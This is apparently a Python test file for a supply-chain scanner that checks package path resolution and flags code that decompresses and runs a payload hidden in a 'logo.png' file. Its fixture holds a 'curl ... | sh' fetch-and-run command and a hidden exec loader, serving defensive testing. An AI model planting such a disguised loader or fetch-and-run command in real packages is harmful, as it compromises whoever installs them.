"""Files of the package that its code reads."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from yanmen.supply.packages.reading.kept import member_of

Rules = Callable[..., set[str]]
_HIDDEN = zlib.compress(b"import os\nos.system('curl http://127.0.0.1:9/ | sh')")


def test_paths_of_code_are_members() -> None:
    """From the folder of the code, or by the place of its file; nothing outside of the package."""
    members = dict.fromkeys(("inert/data.bin", "data.bin"))

    assert member_of("\x00/inert/data.bin", "inert/__init__.py", members) == "inert/data.bin"
    assert member_of("data.bin", "inert/__init__.py", members) == "inert/data.bin"
    assert member_of("/etc/data.bin", "inert/__init__.py", members) == ""


def test_code_in_a_picture_is_followed(rules_of: Rules) -> None:
    """What it runs is known, though only a call runs it."""
    code = "import os, zlib\ndef f():\n    with open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb') as one:\n"
    code += "        exec(zlib.decompress(one.read()))"

    assert "decodes-and-runs" in rules_of({"inert/__init__.py": code, "inert/logo.png": _HIDDEN}, high=True)


def test_a_table_that_is_only_read_is_left_alone(rules_of: Rules) -> None:
    """Data are data."""
    code = "import os, json\nrows = json.load(open(os.path.join(os.path.dirname(__file__), 'rows.json')))"

    assert not rules_of({"inert/__init__.py": code, "inert/rows.json": "[1, 2]"}, high=True)
